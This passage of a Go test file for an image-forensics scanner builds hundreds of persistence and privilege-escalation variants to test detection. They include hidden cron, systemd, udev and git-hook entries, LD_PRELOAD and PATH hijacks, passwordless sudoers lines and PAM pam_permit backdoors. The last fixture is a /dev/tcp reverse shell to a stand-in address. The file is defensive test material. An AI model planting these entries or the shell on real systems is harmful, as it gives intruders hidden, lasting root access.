package shell_test

import (
	"context"
	"fmt"
	"path"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/audit/shell"
	"github.com/strata-forensics/strata/audit/standard"
	"github.com/strata-forensics/strata/forensics"
	"github.com/strata-forensics/strata/forensics/imagebuild"
)

// The persistence and privilege harness: variants generated from our own seeds, per technique
// (an autostart place, a way of running the staged program, a staging place), placed in one
// image layer and scanned by the standard analyzers. Every variant must be found by its rule at
// its file and layer, critical when its target is in the image and no package owns it; the
// benign files in the same image must raise none of these rules.
//
// go test ./audit/shell -run TestPersistenceHarness -v prints one line per technique:
//
//	harness: <technique> <found>/<total> recall=<0.000>

// stagedTargets are where the generated autostart entries run their program from: fixed
// temporary, shared-memory and runtime places, hidden names, a world-writable directory of
// the image (/opt/drop, made 0777 in the base layer) and a path with a blank. Those marked
// present are files of the image that no package owns.
var stagedTargets = []struct {
	path    string
	present bool
}{
	{"/tmp/.x/upd", true},
	{"/var/tmp/.cache/agent", false},
	{"/dev/shm/.k/kworker", false},
	{"/run/user/0/.s/a", false},
	{"/usr/lib/.updater/u", true},
	{"/opt/drop/agent", true},
	{"/root/.local/share/.x/sync", false},
	{"/tmp/.x y/upd", false},
	{"/proc/self/fd/9", false},
}

// q quotes a path for the shell when it needs it.
func q(p string) string {
	if strings.ContainsAny(p, " \t") {
		return "'" + p + "'"
	}
	return p
}

// shape is a way of running the program at t from shell code.
type shape struct {
	name      string
	multiline bool // needs a script (not a crontab line, unit or desktop entry)
	cmd       func(t string) string
}

var shapes = []shape{
	{"direct", false, func(t string) string { return q(t) }},
	{"args-redirect", false, func(t string) string { return q(t) + " --daemon >/dev/null 2>&1 &" }},
	{"double-quoted", false, func(t string) string { return `"` + t + `" -q` }},
	{"and-chain", false, func(t string) string { return "cd / && " + q(t) }},
	{"semicolon", false, func(t string) string { return "true; " + q(t) + " -v; exit 0" }},
	{"nohup", false, func(t string) string { return "nohup " + q(t) + " >/dev/null 2>&1 &" }},
	{"setsid", false, func(t string) string { return "setsid -f " + q(t) }},
	{"env", false, func(t string) string { return "env -i PATH=/usr/bin:/bin HOME=/root " + q(t) }},
	{"sh-c", false, func(t string) string { return `sh -c "` + q(t) + ` &"` }},
	{"bash-c-exec", false, func(t string) string { return `/bin/bash -c 'exec "` + t + `"'` }},
	{"subshell", false, func(t string) string { return "(" + q(t) + " &)" }},
	{"sh-file", false, func(t string) string { return "sh " + q(t) }},
	{"python-file", false, func(t string) string { return "python3 -u " + q(t) }},
	{"perl-file", false, func(t string) string { return "perl " + q(t) }},
	{"source", false, func(t string) string { return ". " + q(t) }},
	{"variable", false, func(t string) string { return "D=" + q(path.Dir(t)) + "; \"$D/" + path.Base(t) + "\"" }},
	{"braced-variable", false, func(t string) string { return "B=" + q(t) + " && \"${B}\" start" }},
	{"command-substitution", false, func(t string) string { return `"$(echo ` + q(t) + `)"` }},
	{"if", false, func(t string) string { return "if [ -x " + q(t) + " ]; then " + q(t) + "; fi" }},
	{"function", false, func(t string) string { return "f() { " + q(t) + " \"$@\"; }; f" }},
	{"timeout", false, func(t string) string { return "timeout 3600 " + q(t) }},
	{"exec", false, func(t string) string { return "exec " + q(t) }},
	{"nice-ionice", false, func(t string) string { return "nice -n 19 ionice -c3 " + q(t) }},
	{"cd-relative", false, func(t string) string { return "cd " + q(path.Dir(t)) + " && ./" + path.Base(t) + " -d" }},
	{"stdin-redirect", false, func(t string) string { return "/bin/sh < " + q(t) }},
	{"cat-pipe", false, func(t string) string { return "cat " + q(t) + " | bash -s" }},
	{"exec-argv0", false, func(t string) string { return "exec -a '[kworker/0:1]' " + q(t) }},
	{"continuation", true, func(t string) string { return "nohup \\\n    " + q(t) + " \\\n    >/dev/null 2>&1 &" }},
	{"assigned-earlier", true, func(t string) string {
		return "STAGE=" + q(path.Dir(t)) + "\necho starting\nsleep 1\n\"$STAGE\"/" + path.Base(t) + " &"
	}},
	{"loop", true, func(t string) string { return "while true; do\n  " + q(t) + "\n  sleep 300\ndone &" }},
}

// place writes a command into an autostart file: its path and text, or ok false when the
// place cannot hold the command (a crontab line cannot span lines).
type place struct {
	tech  string
	rule  string
	write func(n int, cmd string, multiline bool) (string, string, bool)
}

func oneLineOnly(multiline bool, cmd string) bool { return !multiline && !strings.Contains(cmd, "\n") }

// systemdQuote quotes a command line as one systemd word for sh -c.
func systemdQuote(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "$", "$$", "%", "%%")
	return `"` + r.Replace(s) + `"`
}

// shQuote single-quotes s for the shell.
func shQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

var places = []place{
	{"cron.d", shell.RuleStagedCron, func(n int, cmd string, ml bool) (string, string, bool) {
		return fmt.Sprintf("/etc/cron.d/v%d", n), "SHELL=/bin/sh\nPATH=/usr/sbin:/usr/bin:/sbin:/bin\n*/5 * * * * root " + cmd + "\n", oneLineOnly(ml, cmd) && !strings.Contains(cmd, "%")
	}},
	{"user-crontab", shell.RuleStagedCron, func(n int, cmd string, ml bool) (string, string, bool) {
		return fmt.Sprintf("/var/spool/cron/crontabs/u%d", n), "# m h dom mon dow command\n@reboot " + cmd + "\n", oneLineOnly(ml, cmd)
	}},
	{"cron-daily", shell.RuleStagedCron, func(n int, cmd string, ml bool) (string, string, bool) {
		return fmt.Sprintf("/etc/cron.daily/v%d", n), "#!/bin/sh\nset -e\n" + cmd + "\n", true
	}},
	{"at-job", shell.RuleStagedCron, func(n int, cmd string, ml bool) (string, string, bool) {
		return fmt.Sprintf("/var/spool/cron/atjobs/a%05d", n), "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n" + cmd + "\n", true
	}},
	{"systemd-service", shell.RuleStagedSystemd, func(n int, cmd string, ml bool) (string, string, bool) {
		return fmt.Sprintf("/etc/systemd/system/v%d.service", n), "[Unit]\nDescription=System update helper\n\n[Service]\nType=simple\nExecStart=/bin/sh -c " + systemdQuote(cmd) + "\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n", oneLineOnly(ml, cmd)
	}},
	{"systemd-user", shell.RuleStagedSystemd, func(n int, cmd string, ml bool) (string, string, bool) {
		return fmt.Sprintf("/root/.config/systemd/user/v%d.service", n), "[Service]\nExecStartPre=-/bin/true\nExecStart=/usr/bin/env bash -c " + systemdQuote(cmd) + "\n", oneLineOnly(ml, cmd)
	}},
	{"rc.local", shell.RuleStagedAutostart, func(n int, cmd string, ml bool) (string, string, bool) {
		return fmt.Sprintf("/etc/rc.d/rc.v%d", n), "#!/bin/sh -e\n" + cmd + "\nexit 0\n", true
	}},
	{"init.d", shell.RuleStagedAutostart, func(n int, cmd string, ml bool) (string, string, bool) {
		return fmt.Sprintf("/etc/init.d/v%d", n), "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: v\n### END INIT INFO\ncase \"$1\" in\n  start)\n" + cmd + "\n    ;;\n  stop) ;;\nesac\n", true
	}},
	{"update-motd", shell.RuleStagedAutostart, func(n int, cmd string, ml bool) (string, string, bool) {
		return fmt.Sprintf("/etc/update-motd.d/9%d-news", n), "#!/bin/sh\n" + cmd + "\n", true
	}},
	{"udev", shell.RuleStagedAutostart, func(n int, cmd string, ml bool) (string, string, bool) {
		return fmt.Sprintf("/etc/udev/rules.d/9%d-net.rules", n), "ACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c " + shQuote(cmd) + "\"\n", oneLineOnly(ml, cmd) && !strings.ContainsAny(cmd, `"'`) // udev cannot quote a quote
	}},
	{"xdg-autostart", shell.RuleStagedAutostart, func(n int, cmd string, ml bool) (string, string, bool) {
		return fmt.Sprintf("/etc/xdg/autostart/v%d.desktop", n), "[Desktop Entry]\nType=Application\nName=Updater\nExec=sh -c " + shQuote(cmd) + "\nNoDisplay=true\n", oneLineOnly(ml, cmd)
	}},
	{"apt-hook", shell.RuleStagedAutostart, func(n int, cmd string, ml bool) (string, string, bool) {
		return fmt.Sprintf("/etc/apt/apt.conf.d/9%dupd", n), "APT::Update::Pre-Invoke {\"" + strings.ReplaceAll(cmd, `"`, `\"`) + "\";};\n", oneLineOnly(ml, cmd)
	}},
	{"network-hook", shell.RuleStagedAutostart, func(n int, cmd string, ml bool) (string, string, bool) {
		dirs := []string{"/etc/network/if-up.d", "/etc/NetworkManager/dispatcher.d", "/etc/ppp/ip-up.d", "/etc/X11/Xsession.d"}
		return fmt.Sprintf("%s/%02dv%d", dirs[n%len(dirs)], n%100, n), "#!/bin/sh\n[ \"$IFACE\" = lo ] && exit 0\n" + cmd + "\n", true
	}},
	{"profile.d", shell.RuleStagedShellRC, func(n int, cmd string, ml bool) (string, string, bool) {
		return fmt.Sprintf("/etc/profile.d/v%d.sh", n), "# set up the session\nexport EDITOR=vi\n" + cmd + "\n", true
	}},
	{"bashrc", shell.RuleStagedShellRC, func(n int, cmd string, ml bool) (string, string, bool) {
		return fmt.Sprintf("/home/u%d/.bashrc", n), "case $- in\n    *i*) ;;\n      *) return;;\nesac\nHISTSIZE=1000\n" + cmd + "\n", true
	}},
	{"zprofile", shell.RuleStagedShellRC, func(n int, cmd string, ml bool) (string, string, bool) {
		return fmt.Sprintf("/home/z%d/.zprofile", n), cmd + "\n", true
	}},
	{"python-pth", shell.RuleStagedPth, func(n int, cmd string, ml bool) (string, string, bool) {
		py := strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(cmd)
		return fmt.Sprintf("/usr/lib/python3/dist-packages/v%d.pth", n), "import os; os.system(\"" + py + "\")\n", oneLineOnly(ml, cmd)
	}},
}

// shadowSeeds are aliases and functions in a shell rc file that put a staged program in front
// of a command people type.
var shadowSeeds = []func(name, t string) string{
	func(name, t string) string { return "alias " + name + "=" + shQuote(t) },
	func(name, t string) string { return "alias " + name + "=\"" + t + " --color=auto\"" },
	func(name, t string) string { return name + "() { " + q(t) + " \"$@\"; }" },
	func(name, t string) string { return "function " + name + " {\n  command " + q(t) + " \"$@\"\n}" },
	func(name, t string) string {
		return "alias " + name + "=\"nohup " + q(t) + " >/dev/null 2>&1; " + name + "\""
	},
}

// pthSeeds are python start-up hooks.
var pthSeeds = []func(t string) string{
	func(t string) string { return "import subprocess; subprocess.Popen([\"" + t + "\", \"-d\"])" },
	func(t string) string {
		return "import os,sys; os.system('" + q(t) + " &') if not os.environ.get('X') else None"
	},
	func(t string) string { return "import subprocess;subprocess.call(\"" + q(t) + " &\", shell=True)" },
	func(t string) string { return t },
	func(t string) string { return "import os; os.execv(\"" + t + "\", [\"x\"]) if os.fork() == 0 else 0" },
}

// envSeeds put a staging place first on the command path, or preload a library from one.
var envSeeds = []func(n int, t string) (string, string, string){
	func(n int, t string) (string, string, string) {
		return fmt.Sprintf("/etc/profile.d/p%d.sh", n), "export PATH=" + path.Dir(t) + ":$PATH\n", shell.RuleStagedShellRC
	},
	func(n int, t string) (string, string, string) {
		return fmt.Sprintf("/home/p%d/.bashrc", n), "D=" + path.Dir(t) + "\nPATH=\"$D:/usr/local/bin:/usr/bin:/bin\"\n", shell.RuleStagedShellRC
	},
	func(n int, t string) (string, string, string) {
		return fmt.Sprintf("/etc/cron.d/p%d", n), "PATH=" + path.Dir(t) + ":/usr/sbin:/usr/bin:/sbin:/bin\n0 * * * * root backup\n", shell.RuleStagedCron
	},
	func(n int, t string) (string, string, string) {
		return fmt.Sprintf("/etc/profile.d/l%d.sh", n), "export LD_PRELOAD=" + t + ".so\n", shell.RuleStagedShellRC
	},
	func(n int, t string) (string, string, string) {
		return "/etc/environment", "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nLD_PRELOAD=" + t + ".so\n", shell.RuleStagedShellRC
	},
	func(n int, t string) (string, string, string) {
		return fmt.Sprintf("/home/l%d/.zshrc", n), "LD_PRELOAD=\"" + t + ".so $LD_PRELOAD\"\nexport LD_PRELOAD\n", shell.RuleStagedShellRC
	},
}

// gitSeeds are git hooks and configurations that run a staged program; they return the
// target the finding names.
var gitSeeds = []func(n int, t string) (string, string, string){
	func(n int, t string) (string, string, string) {
		return fmt.Sprintf("/srv/app%d/.git/hooks/post-checkout", n), "#!/bin/sh\n" + q(t) + " >/dev/null 2>&1 &\n", t
	},
	func(n int, t string) (string, string, string) {
		return fmt.Sprintf("/srv/app%d/.git/hooks/pre-commit", n), "nohup " + q(t) + " &\nexit 0\n", t
	},
	func(n int, t string) (string, string, string) {
		return fmt.Sprintf("/home/g%d/.gitconfig", n), "[user]\n\tname = dev\n[core]\n\tfsmonitor = \"" + t + "\"\n", t
	},
	func(n int, t string) (string, string, string) {
		return fmt.Sprintf("/srv/repo%d/.git/config", n), "[core]\n\tbare = false\n\thooksPath = " + path.Dir(t) + "\n", path.Dir(t)
	},
	func(n int, t string) (string, string, string) {
		return fmt.Sprintf("/root/.config/git/c%d/.git/config", n), "[alias]\n\tst = \"!" + q(t) + " & git status\"\n", t
	},
}

// privilegeVariant is a sudoers or PAM file that must raise rule.
type privilegeVariant struct {
	tech, path, text, rule string
	sev                    audit.Severity
}

var sudoersVariants = []struct {
	text string
	sev  audit.Severity
}{
	{"www-data ALL=(ALL) NOPASSWD: ALL\n", audit.Critical},
	{"%docker ALL=(ALL:ALL) NOPASSWD:ALL\n", audit.High},
	{"User_Alias WEB = www-data, nginx\nWEB ALL = (root) NOPASSWD: /bin/bash\n", audit.Critical},
	{"Cmnd_Alias SHELLS = /bin/sh, /usr/bin/python3\nbackup ALL=(ALL) NOPASSWD: SHELLS\n", audit.Critical},
	{"ALL ALL=(ALL) NOPASSWD: ALL\n", audit.Critical},
	{"Defaults:svc !authenticate\nsvc ALL=(ALL) ALL\n", audit.High},
	{"deploy host1 = (root) NOPASSWD: /usr/bin/env\n", audit.High},
	{"ops ALL=(ALL) \\\n    NOPASSWD: ALL\n", audit.High},
	{"#1001 ALL=(ALL) NOPASSWD: ALL\n", audit.High},
	{"jenkins ALL=(ALL) NOPASSWD: /usr/bin/systemctl status app, /bin/sh\n", audit.Critical},
	{"nobody ALL=(root) SETENV: NOPASSWD: ALL\n", audit.Critical},
	{"alice, bob ALL=(ALL:ALL) NOPASSWD: /usr/bin/perl # maintenance\n", audit.High},
	{"Runas_Alias ADMINS = root, operator\ncarol ALL=(ADMINS) NOPASSWD: /usr/bin/zsh\n", audit.High},
	{"dave ALL=(ALL) PASSWD: /usr/bin/apt, NOPASSWD: /bin/dash\n", audit.High},
}

var pamVariants = []struct {
	file, text, rule string
}{
	{"/etc/pam.d/sshd", "auth sufficient pam_permit.so\n@include common-auth\n", shell.RulePAMPermit},
	{"/etc/pam.d/login", "auth [success=done default=ignore] pam_permit.so\nauth include common-auth\n", shell.RulePAMPermit},
	{"/etc/pam.d/common-auth", "auth\trequired\t\t\tpam_permit.so\n", shell.RulePAMPermit},
	{"/etc/pam.d/su", "auth required pam_env.so\nauth optional pam_unix.so\nauth required pam_permit.so\n", shell.RulePAMPermit},
	{"/etc/pam.d/sudo", "auth [success=1 default=ignore] pam_unix.so nullok\nauth sufficient pam_permit.so\nauth requisite pam_deny.so\n", shell.RulePAMPermit},
	{"/etc/pam.d/passwd", "-auth   sufficient   /lib/x86_64-linux-gnu/security/pam_permit.so\nauth required pam_unix.so\n", shell.RulePAMPermit},
	{"/etc/pam.conf", "# service type control module\nvsftpd auth sufficient pam_permit.so\nvsftpd auth required pam_unix.so\n", shell.RulePAMPermit},
	{"/etc/pam.d/chsh", "auth sufficient /tmp/.p/pam_unix.so\nauth required pam_unix.so\n", shell.RulePAMModule},
	{"/etc/pam.d/chfn", "auth optional /usr/local/lib/security/pam_audit2.so\n@include common-auth\n", shell.RulePAMModule},
	{"/etc/pam.d/cron", "session required /dev/shm/pam_s.so\n", shell.RulePAMModule},
	{"/etc/pam.d/other", "auth optional pam_exec.so quiet expose_authtok /var/tmp/.l/log.sh\n@include common-auth\n", shell.RuleStagedAutostart},
}

// benign are autostart, sudoers and PAM files of the kind real systems ship: none of the
// persistence or privilege rules may fire on them.
var benign = map[string]string{
	"/etc/cron.d/cleanup":   "15 3 * * * root cd /tmp && find . -xdev -mtime +7 -type f -delete && ls ./\n30 3 * * * root cd /var/tmp; ../../usr/bin/true\n0 * * * * root [ -x /usr/sbin/anacron ] || run-parts --report /etc/cron.hourly\n",
	"/etc/cron.daily/dpkg2": "#!/bin/sh\ntmp=$(mktemp)\ndpkg --get-selections > \"$tmp\"\nmv \"$tmp\" /var/backups/dpkg.sel\nrm -f /tmp/dpkg.*\n",
	"/etc/systemd/system/app.service": "[Service]\nPrivateTmp=true\nExecStartPre=/bin/mkdir -p /run/app\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n" +
		"ExecStopPost=/bin/rm -rf /tmp/app-cache\nRuntimeDirectory=app\n",
	"/root/.bashrc": "[ -f ~/.bash_aliases ] && . ~/.bash_aliases\n. \"$HOME/.cargo/env\"\nexport NVM_DIR=\"$HOME/.nvm\"\n" +
		"[ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\"\nalias ll='ls -alF'\nalias grep='grep --color=auto'\n" +
		"eval \"$(dircolors -b)\"\nif [ -f /usr/share/bash-completion/bash_completion ]; then . /usr/share/bash-completion/bash_completion; fi\n",
	"/root/.profile":                         "if [ -n \"$BASH_VERSION\" ]; then\n  if [ -f \"$HOME/.bashrc\" ]; then . \"$HOME/.bashrc\"; fi\nfi\nPATH=\"$HOME/.local/bin:$PATH\"\n",
	"/etc/profile.d/tmpdir.sh":               "if [ -d /tmp ]; then TMPDIR=/tmp; export TMPDIR; fi\n. /app/.venv/bin/activate\n",
	"/usr/lib/python3/dist-packages/app.pth": "/opt/app/lib\nimport sys; sys.path.insert(0, '/opt/app/plugins')\n",
	"/etc/profile.d/path.sh":                 "PATH=\"$HOME/bin:$HOME/.local/bin:$PATH\"\nexport PATH=\"/usr/local/bin:$PATH:/opt/.tools/bin\"\n",
	"/srv/app/.git/hooks/pre-commit.sample":  "#!/bin/sh\n/tmp/.x/upd\n",
	"/srv/app/.git/config":                   "[core]\n\trepositoryformatversion = 0\n\tpager = less -R\n[alias]\n\tlg = log --graph\n",
	"/etc/cron.d/app":                        "*/10 * * * * app cd /app && .venv/bin/python manage.py clearsessions && node_modules/.bin/pm2 ping\n",
	"/etc/udev/rules.d/60-app.rules":         "ACTION==\"add\", KERNEL==\"sd*\", RUN+=\"/usr/lib/udev/app-helper $kernel\"\n",
	"/etc/sudoers":                           "Defaults\tenv_reset\nDefaults\tsecure_path=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nroot\tALL=(ALL:ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
	"/etc/sudoers.d/deploy":                  "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app\nalice ALL=(postgres) NOPASSWD: ALL\nbob ALL=(ALL) ALL\n",
	"/etc/sudoers.d/README":                  "# files in this directory are read by sudo\n",
	"/etc/sudoers.d/old.dpkg-dist":           "www-data ALL=(ALL) NOPASSWD: ALL\n", // sudo skips names with a dot
	"/etc/pam.d/common-auth-ok":              "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\nauth\trequired\t\t\tpam_permit.so\n",
	"/etc/pam.d/runuser":                     "auth sufficient pam_rootok.so\nsession include system-session\n",
	"/etc/pam.d/app-greeter":                 "auth required pam_permit.so\n",
	"/etc/pam.d/sshd-ok":                     "@include common-auth-ok\naccount required pam_nologin.so\nsession optional pam_exec.so /usr/lib/app/session-hook\n",
}

func TestPersistenceHarness(t *testing.T) {
	type want struct {
		tech, path, rule, target string
		sev                      audit.Severity
	}
	var wants []want
	var files []imagebuild.File
	n := 0
	add := func(tech, p, text, rule, target string, sev audit.Severity) {
		wants = append(wants, want{tech, p, rule, target, sev})
		files = append(files, imagebuild.Reg(p, text))
	}
	sevOf := func(i int) audit.Severity {
		if stagedTargets[i].present {
			return audit.Critical
		}
		return audit.High
	}
	for _, pl := range places {
		for si, sh := range shapes {
			ti := (si + len(pl.tech)) % len(stagedTargets)
			tgt := stagedTargets[ti].path
			n++
			cmd := sh.cmd(tgt)
			p, text, ok := pl.write(n, cmd, sh.multiline)
			if !ok {
				continue
			}
			add(pl.tech+"/"+sh.name, p, text, pl.rule, tgt, sevOf(ti))
		}
	}
	for i, seed := range shadowSeeds {
		for j, name := range []string{"sudo", "ls", "ssh", "su"} {
			ti := (i + j) % len(stagedTargets)
			n++
			add("shadow/"+name, fmt.Sprintf("/home/s%d/.bashrc", n), "# aliases\n"+seed(name, stagedTargets[ti].path)+"\n",
				shell.RuleStagedShellRC, stagedTargets[ti].path, sevOf(ti))
		}
	}
	for i, seed := range pthSeeds {
		for j := 0; j < 3; j++ {
			ti := (i*3 + j) % len(stagedTargets)
			tgt := stagedTargets[ti].path
			if strings.Contains(tgt, " ") && i == 3 {
				continue
			}
			n++
			add("python-pth/hook", fmt.Sprintf("/usr/local/lib/python3.11/dist-packages/h%d.pth", n), seed(tgt)+"\n", shell.RuleStagedPth, tgt, sevOf(ti))
		}
	}
	for i, seed := range envSeeds {
		ti := (i * 2) % len(stagedTargets)
		tgt := stagedTargets[ti].path
		if strings.Contains(tgt, " ") {
			tgt = "/dev/shm/.b"
		}
		n++
		p, text, rule := seed(n, tgt)
		want := path.Dir(tgt) // a directory put first on the command path
		if strings.Contains(text, "LD_PRELOAD") {
			want = tgt + ".so"
		}
		add("env/"+path.Base(p), p, text, rule, want, audit.High)
	}
	for i, seed := range gitSeeds {
		for j := 0; j < 3; j++ {
			ti := (i + j*4) % len(stagedTargets)
			n++
			p, text, tgt := seed(n, stagedTargets[ti].path)
			sev := sevOf(ti)
			if tgt != stagedTargets[ti].path {
				sev = audit.High // a hooks directory, not the program
			}
			add("git/"+path.Base(p), p, text, shell.RuleStagedAutostart, tgt, sev)
		}
	}
	var priv []privilegeVariant
	for i, v := range sudoersVariants {
		priv = append(priv, privilegeVariant{"sudoers", fmt.Sprintf("/etc/sudoers.d/v%d", i), v.text, shell.RuleSudoers, v.sev})
	}
	for _, v := range pamVariants {
		priv = append(priv, privilegeVariant{"pam", v.file, v.text, v.rule, 0})
	}

	// The base layer: a package database that owns a program, and a world-writable directory.
	base := []imagebuild.File{
		imagebuild.Reg("/var/lib/dpkg/status", "Package: coreutils\nStatus: install ok installed\nPriority: required\nVersion: 9.1-1\nArchitecture: amd64\nDescription: core utilities\n\n"),
		imagebuild.Reg("/var/lib/dpkg/info/coreutils.list", "/.\n/usr\n/usr/bin\n/usr/bin/true\n"),
		{Path: "/usr/bin/true", Mode: 0o755, Content: []byte("\x7fELF")},
		{Path: "/opt/drop/", Type: '5', Mode: 0o777},
	}
	var staged []imagebuild.File
	for _, st := range stagedTargets {
		if st.present {
			staged = append(staged, imagebuild.File{Path: st.path, Mode: 0o755, Content: []byte("#!/bin/sh\nsleep 3600\n")})
		}
	}
	var benignFiles []imagebuild.File
	for p, text := range benign {
		benignFiles = append(benignFiles, imagebuild.Reg(p, text))
	}
	sort.Slice(benignFiles, func(i, j int) bool { return benignFiles[i].Path < benignFiles[j].Path })
	var privFiles []imagebuild.File
	for _, v := range priv {
		privFiles = append(privFiles, imagebuild.Reg(v.path, v.text))
	}
	res := scanImage(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: base}, {Files: staged}, {Files: files}, {Files: privFiles}, {Files: benignFiles}}})

	byPath := map[string][]audit.Finding{}
	for _, f := range res.Findings {
		byPath[f.Path] = append(byPath[f.Path], f)
	}
	found, total := map[string]int{}, map[string]int{}
	for _, w := range wants {
		tech := strings.SplitN(w.tech, "/", 2)[0]
		total[tech]++
		ok := false
		for _, f := range byPath[w.path] {
			if f.Rule == w.rule && f.Layer == 2 && f.Category == audit.CategoryPersistence && f.Severity == w.sev &&
				strings.Contains(f.Evidence, "target "+w.target) {
				ok = true
			}
		}
		if !ok {
			t.Errorf("%s: %s (target %s) not found as %s %s at layer 2:\n%s", w.tech, w.path, w.target, w.sev, w.rule, dumpFindings(byPath[w.path]))
			continue
		}
		found[tech]++
	}
	for _, v := range priv {
		total[v.tech]++
		ok := false
		for _, f := range res.Findings {
			if f.Rule == v.rule && f.Layer == 3 && (v.sev == 0 || f.Severity == v.sev) && f.Path == v.path {
				ok = true
			}
		}
		if !ok {
			t.Errorf("%s: %s not found as %s:\n%s\n%s", v.tech, v.path, v.rule, v.text, dumpFindings(byPath[v.path]))
			continue
		}
		found[v.tech]++
	}
	techs := make([]string, 0, len(total))
	for k := range total {
		techs = append(techs, k)
	}
	sort.Strings(techs)
	all, allFound := 0, 0
	for _, k := range techs {
		fmt.Printf("harness: persistence-%s %d/%d recall=%.3f\n", k, found[k], total[k], float64(found[k])/float64(total[k]))
		all += total[k]
		allFound += found[k]
	}
	if all < 300 {
		t.Errorf("only %d variants generated", all)
	}
	t.Logf("%d of %d variants found", allFound, all)
	for _, f := range res.Findings {
		if _, ok := benign[f.Path]; ok && (strings.HasPrefix(f.Rule, "STRATA-PS-") || strings.HasPrefix(f.Rule, "STRATA-PE-")) {
			t.Errorf("benign %s raised %s %s: %s [%s]", f.Path, f.Severity, f.Rule, f.Title, f.Evidence)
		}
	}
}

func dumpFindings(fs []audit.Finding) string {
	var b strings.Builder
	for _, f := range fs {
		fmt.Fprintf(&b, "  %s %s layer %d %q [%s]\n", f.Severity, f.Rule, f.Layer, f.Title, f.Evidence)
	}
	return b.String()
}

// scanImage builds img and scans it with the standard analyzers (no YARA) and the package
// analyzer.
func scanImage(t *testing.T, img imagebuild.Image) *audit.Result {
	t.Helper()
	b, err := imagebuild.Build(img)
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(t.TempDir(), "layout")
	if err := imagebuild.WriteOCILayout(dir, b); err != nil {
		t.Fatal(err)
	}
	set, err := standard.New(standard.Options{Packages: true, TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer set.Close()
	opened, err := forensics.Open(context.Background(), "oci:"+dir, forensics.OpenOptions{TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer opened.Close()
	res, err := audit.Scan(context.Background(), opened, audit.Options{Analyzers: set.Analyzers})
	if err != nil {
		t.Fatal(err)
	}
	return res
}

// TestStagedHiddenCopy: an autostart entry that a later layer whited out, and one a later
// layer replaced with a clean file, are still reported, each at the layer that holds it.
func TestStagedHiddenCopy(t *testing.T) {
	res := scanImage(t, imagebuild.Image{Layers: []imagebuild.Layer{
		{Files: []imagebuild.File{
			imagebuild.Reg("/etc/cron.d/sync", "* * * * * root /dev/shm/.k/kworker >/dev/null 2>&1\n"),
			imagebuild.Reg("/etc/profile.d/zz.sh", "(/var/tmp/.cache/agent >/dev/null 2>&1 &)\n"),
		}},
		{Files: []imagebuild.File{
			imagebuild.Whiteout("/etc/cron.d/sync"),
			imagebuild.Reg("/etc/profile.d/zz.sh", "umask 022\n"),
		}},
	}})
	want := map[string]string{"/etc/cron.d/sync": shell.RuleStagedCron, "/etc/profile.d/zz.sh": shell.RuleStagedShellRC}
	for p, rule := range want {
		var got []audit.Finding
		for _, f := range res.Findings {
			if f.Path == p {
				got = append(got, f)
			}
		}
		ok, hidden := false, false
		for _, f := range got {
			if f.Rule == rule && f.Layer == 0 && f.Severity >= audit.High {
				ok = true
			}
			if f.Rule == "STRATA-FS-008" {
				hidden = true
			}
			if f.Rule == rule && f.Layer != 0 {
				t.Errorf("%s: %s reported at layer %d, want 0 only", p, rule, f.Layer)
			}
		}
		if !ok || !hidden {
			t.Errorf("%s: want %s at layer 0 and its hidden-file finding (FS-008), got:\n%s", p, rule, dumpFindings(got))
		}
	}
}

// TestKeepFile: the review keeps the autostart, sudoers and PAM files and nothing else (a
// PAM module's library, a unit's drop-in directory listing, an ordinary program).
func TestKeepFile(t *testing.T) {
	a := shell.New()
	for p, want := range map[string]bool{
		"/etc/cron.d/x": true, "/etc/crontab": true, "/var/spool/cron/crontabs/root": true, "/var/spool/cron/atjobs/a0001": true,
		"/etc/systemd/system/x.service": true, "/usr/lib/systemd/system/ssh.service": true, "/lib/systemd/system/cron.service": true,
		"/root/.config/systemd/user/x.service": true, "/etc/init.d/x": true, "/etc/rc.local": true, "/etc/profile.d/x.sh": true,
		"/root/.bashrc": true, "/home/u/.profile": true, "/etc/update-motd.d/10-help": true, "/usr/lib/udev/rules.d/60-x.rules": true,
		"/etc/xdg/autostart/x.desktop": true, "/etc/apt/apt.conf.d/99x": true, "/etc/pam.d/sshd": true, "/etc/pam.conf": true,
		"/etc/sudoers": true, "/etc/sudoers.d/x": true, "/usr/lib/python3/dist-packages/x.pth": true,
		"/etc/network/if-up.d/x": true, "/etc/X11/Xsession.d/90x": true, "/srv/a/.git/hooks/post-merge": true, "/srv/a/.git/hooks/post-merge.sample": false,
		"/usr/lib/x86_64-linux-gnu/security/pam_unix.so": false, "/usr/bin/ls": false, "/etc/passwd": false, "/tmp/x.pth": false,
		"/usr/share/doc/cron/README": false, "/home/u/notes.txt": false, "/var/www/html/index.php": false,
	} {
		if got := a.KeepFile(p); got != want {
			t.Errorf("KeepFile(%s) = %v, want %v", p, got, want)
		}
	}
}

// An autostart entry whose target sits in an ordinary directory is still reported when the
// target is itself a payload; one that runs an ordinary script is not.
func TestAutostartRunsPayload(t *testing.T) {
	res := scanImage(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: []imagebuild.File{
		imagebuild.Reg("/usr/local/bin/netsync", "#!/bin/sh\nH=203.0.113.9\nexec 3<>/dev/tcp/$H/4444\n/bin/sh <&3 >&3 2>&3\n").WithMode(0o755),
